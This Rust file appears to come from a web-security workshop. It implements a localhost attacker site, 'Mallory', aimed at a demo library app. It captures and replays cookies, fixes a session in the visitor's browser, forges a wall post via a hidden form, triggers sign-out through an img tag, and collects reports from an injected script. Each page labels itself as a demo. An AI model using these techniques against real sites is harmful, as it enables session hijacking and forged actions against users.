//! Mallory's site: the pages that she lures Ann to, and what she holds afterwards. It is at another port of this machine,
//! asks nothing but the library, and says on every page what it is.

use std::{
    fmt::Display,
    sync::{Arc, Mutex, MutexGuard, PoisonError},
};

use axum::{
    Router,
    body::{Body, Bytes, to_bytes},
    extract::State,
    http::{HeaderMap, HeaderValue, Request, StatusCode, header},
    response::{AppendHeaders, IntoResponse},
    routing::{get, post},
};
use hyper_util::{
    client::legacy::{Client, connect::HttpConnector},
    rt::TokioExecutor,
};
use maud::{DOCTYPE, Markup, html};

use crate::{Error, cookie::sent_back};

/// The longest page of the library that she reads, in bytes.
const LONGEST_PAGE: usize = 100_000;

/// How much she keeps of what her script tells her: so many of its messages, and so many letters of each.
const MOST_TOLD: usize = 6;
const LONGEST_TOLD: usize = 300;

/// What she knows of the library, and what she holds.
#[derive(Clone)]
struct Mallory {
    /// The library's address: `http://127.0.0.1:8000`.
    library: Arc<str>,
    client: Client<HttpConnector, Body>,
    holds: Arc<Mutex<Holds>>,
}

#[derive(Clone, Default)]
struct Holds {
    /// Cookies, as they stand in a header.
    cookie: Option<HeaderValue>,
    /// What her script has told her, the newest last.
    told: Vec<String>,
}

/// Her site, for the library at this address.
pub fn mallory(library: &str) -> Router {
    let mallory = Mallory {
        library: library.into(),
        client: Client::builder(TokioExecutor::new()).build_http(),
        holds: Arc::default(),
    };
    Router::new()
        .route("/", get(home))
        .route("/kittens", get(kittens))
        .route("/plant", get(plant))
        .route("/ask", get(ask))
        .route("/form", get(form))
        .route("/picture", get(picture))
        .route("/script.js", get(script))
        .route("/told", post(told))
        .with_state(mallory)
}

impl Mallory {
    /// What she holds stays whole whatever happens to whoever changes it, so a poisoned lock is none.
    fn holds(&self) -> MutexGuard<'_, Holds> {
        self.holds.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Opens a page of the library with the cookies that she holds.
    async fn open(
        &self,
        path: &str,
        cookie: Option<HeaderValue>,
    ) -> Result<(StatusCode, HeaderMap, String), Error> {
        let out_of_reach = |cause: &dyn Display| {
            Error::Failed(format!(
                "the library at {} does not answer: {cause}",
                self.library
            ))
        };
        let mut request = Request::get(format!("{}{path}", self.library))
            .body(Body::empty())
            .map_err(|cause| out_of_reach(&cause))?;
        if let Some(cookie) = cookie {
            request.headers_mut().insert(header::COOKIE, cookie);
        }
        let answer = self.client.request(request).await;
        let (head, body) = answer.map_err(|cause| out_of_reach(&cause))?.into_parts();
        let page = to_bytes(Body::new(body), LONGEST_PAGE).await;
        let page = page.map_err(|cause| out_of_reach(&cause))?;
        let page = String::from_utf8_lossy(&page).into_owned();
        Ok((head.status, head.headers, page))
    }
}

/// A page of hers, which says whose it is.
fn layout(title: &str, content: Markup) -> Markup {
    html! {
        (DOCTYPE)
        html lang="en" {
            head { meta charset="utf-8"; title { (title) } }
            body {
                p { strong { "This is Mallory's site, from step 11 of the workshop." }
                    " It shows what an attacker does, and nothing that it gets leaves this machine." }
                h1 { (title) }
                (content)
            }
        }
    }
}

async fn home(State(mallory): State<Mallory>) -> Markup {
    let holds = mallory.holds().clone();
    let content = html! {
        p { "Cookies: " @match &holds.cookie {
            Some(cookie) => code { (shortened(cookie)) },
            None => "none",
        } "." }
        @for words in &holds.told { p { "A script told me: " q { (words) } } }
        p { a href="/ask" { "Ask the library for the loans, with these cookies" } }
        p { "What Ann is to open: "
            @for page in ["kittens", "plant", "form", "picture"] { a href={ "/" (page) } { (page) } " " } }
    };
    layout("What Mallory holds", content)
}

/// Each cookie with the first letters of its value, so that a photograph of the page gives nobody an id.
fn shortened(cookie: &HeaderValue) -> String {
    let text = String::from_utf8_lossy(cookie.as_bytes());
    let pairs = text.split("; ").map(|pair| {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        format!("{name}={}…", value.chars().take(4).collect::<String>())
    });
    pairs.collect::<Vec<_>>().join("; ")
}

/// Takes a copy of the cookies that come. Her page is on the library's host, and browsers tell no port from another.
async fn kittens(State(mallory): State<Mallory>, headers: HeaderMap) -> Markup {
    let came = headers.get(header::COOKIE).cloned();
    let content = match &came {
        Some(cookie) => {
            html! { p { "Your browser has sent me " code { (shortened(cookie)) } "." } }
        }
        None => html! { p { "Your browser has sent me no cookie." } },
    };
    if came.is_some() {
        mallory.holds().cookie = came;
    }
    layout("Kittens", content)
}

/// Gets a session from the library, as anybody may, and gives its cookie to the visitor's browser.
async fn plant(State(mallory): State<Mallory>) -> Result<impl IntoResponse, Error> {
    let (_, headers, _) = mallory.open("/", None).await?;
    let mut given = Vec::new();
    for cookie in headers.get_all(header::SET_COOKIE) {
        mallory.holds().cookie = sent_back(cookie);
        given.push((header::SET_COOKIE, cookie.clone()));
    }
    let content = html! { p { "Your browser now has the id of a session of mine." } };
    Ok((AppendHeaders(given), layout("More kittens", content)))
}

/// Asks for somebody's loans with what she holds.
async fn ask(State(mallory): State<Mallory>) -> Result<Markup, Error> {
    let cookie = mallory.holds().cookie.clone();
    let (status, _, page) = mallory.open("/loans", cookie).await?;
    let content = html! {
        p { "The library has answered me with " (status) "." }
        @match status {
            StatusCode::OK => p { "It says: " q { (words(&page)) } },
            _ => p { "I am to sign in, so what I hold is worth nothing." }
        }
    };
    Ok(layout("The library's answer", content))
}

/// What stands in the main part of a page of the library, without its tags.
fn words(page: &str) -> String {
    let main = page.split_once("<main").map_or(page, |(_, rest)| rest);
    let main = main.split_once("</main>").map_or(main, |(main, _)| main);
    let texts = main
        .split('<')
        .map(|part| part.split_once('>').map_or("", |(_, text)| text));
    texts.collect::<Vec<_>>().join(" ")
}

/// A form that posts to the library. An attacker's page would send it by itself.
async fn form(State(mallory): State<Mallory>) -> Markup {
    let content = html! {
        form method="post" action={ (mallory.library) "/wall" } {
            input type="hidden" name="text" value="I lend my books to everybody.";
            button { "Show me kittens" }
        }
        p { "The button writes a note on the library's wall." }
    };
    layout("Even more kittens", content)
}

/// A picture, and a link, whose address signs out.
async fn picture(State(mallory): State<Mallory>) -> Markup {
    let signs_out = format!("{}/sign-out", mallory.library);
    let content = html! {
        p { img src=(signs_out) alt="No kitten: the picture's address is the library's sign-out."; }
        p { a href=(signs_out) { "A link to the same address" } }
    };
    layout("A kitten", content)
}

async fn script() -> impl IntoResponse {
    let kind = [(header::CONTENT_TYPE, "text/javascript; charset=utf-8")];
    (kind, include_str!("script.js"))
}

async fn told(State(mallory): State<Mallory>, words: Bytes) -> StatusCode {
    let words = String::from_utf8_lossy(&words);
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    let told = &mut mallory.holds().told;
    told.push(words.chars().take(LONGEST_TOLD).collect());
    let too_many = told.len().saturating_sub(MOST_TOLD);
    told.drain(..too_many);
    StatusCode::NO_CONTENT
}
